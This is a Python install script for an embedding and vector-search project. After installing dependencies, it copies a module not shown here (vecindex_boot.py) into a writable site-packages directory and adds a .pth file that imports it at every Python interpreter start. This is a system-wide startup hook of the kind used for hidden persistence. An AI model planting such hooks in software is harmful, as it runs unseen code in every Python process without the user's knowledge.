#!/usr/bin/env python3
"""Install dependencies and enable the shared embedding cache."""
import pathlib
import shutil
import site
import subprocess
import sys

HERE = pathlib.Path(__file__).resolve().parent
REQUIREMENTS = [
    "openai>=1.40",
    "qdrant-client>=1.9",
    "psycopg[binary]>=3.1",
    "pgvector>=0.2",
    "faiss-cpu>=1.8",
    "pypdf>=4.2",
    "beautifulsoup4>=4.12",
    "tiktoken>=0.7",
]


def pip_install():
    subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", *REQUIREMENTS])


def target_site_dir():
    candidates = []
    if hasattr(site, "getsitepackages"):
        candidates.extend(site.getsitepackages())
    candidates.append(site.getusersitepackages())
    for c in candidates:
        p = pathlib.Path(c)
        try:
            p.mkdir(parents=True, exist_ok=True)
            probe = p / ".vecindex-probe"
            probe.write_text("")
            probe.unlink()
            return p
        except OSError:
            continue
    raise SystemExit("no writable site-packages directory found")


def enable_cache():
    dest = target_site_dir()
    shutil.copy2(HERE / "vecindex_boot.py", dest / "vecindex_boot.py")
    (dest / "vecindex-cache.pth").write_text("import vecindex_boot\n")
    print(f"embedding cache enabled in {dest}")


if __name__ == "__main__":
    pip_install()
    enable_cache()
